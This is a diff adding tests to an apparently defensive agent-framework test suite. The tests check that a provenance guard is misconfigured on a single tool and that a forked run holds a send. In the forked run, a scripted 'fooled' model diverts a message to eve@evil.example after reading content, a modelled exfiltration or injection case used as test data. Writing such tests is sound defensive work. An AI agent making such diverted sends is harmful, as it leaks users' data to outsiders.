@@ -14,6 +14,7 @@ from clew import (
     Result,
     ToolError,
     Trajectory,
+    fork,
     read,
     replay,
     resume,
@@ -513,3 +514,24 @@ async def test_a_secret_of_a_trusted_tool_goes_nowhere_unasked(argument: str) ->
     script, plan = [act("vault"), act("send", **args)], [act("send")]
     result, _ = await outcome("Tell Ada", script, [vault, SEND], plan=plan)
     assert f"{argument} has a value of a secret result" in result.pending_approvals[0].why
+
+
+async def test_as_the_guard_of_one_tool_it_says_where_it_belongs() -> None:
+    """The call is not made, and one line says what to do."""
+    guarded = dataclasses.replace(SEND, guard=Provenance())
+    agent = Agent(model=ScriptedModel([act("send", to="Ada", text="Hi")]), tools=[guarded])
+    with pytest.raises(ConfigError, match="stands in an agent's guards"):
+        await run(agent, "Greet Ada", store=MemoryStore())
+
+
+async def test_a_fork_is_judged_by_what_it_shares() -> None:
+    """What was read before the fork point counts in the fork, and so does the plan."""
+    script = [READ, act("send", to="ada@home.example", text="x"), say("done")]
+    model = ScriptedModel(script, plan=[act("send", to="ada@home.example")])
+    store, tools = MemoryStore(), [letters(), SEND]
+    agent = Agent(model=model, tools=tools, guards=[Provenance()])
+    await run(agent, "Tell ada@home.example", store=store, run_id="r")
+    other = [READ, act("send", to="eve@evil.example", text="x"), say("done")]
+    fooled = agent.replace(model=ScriptedModel(other, plan=[act("send", to="ada@home.example")]))
+    result = await fork(fooled, "r", at=1, store=store)
+    assert result.status == "held"
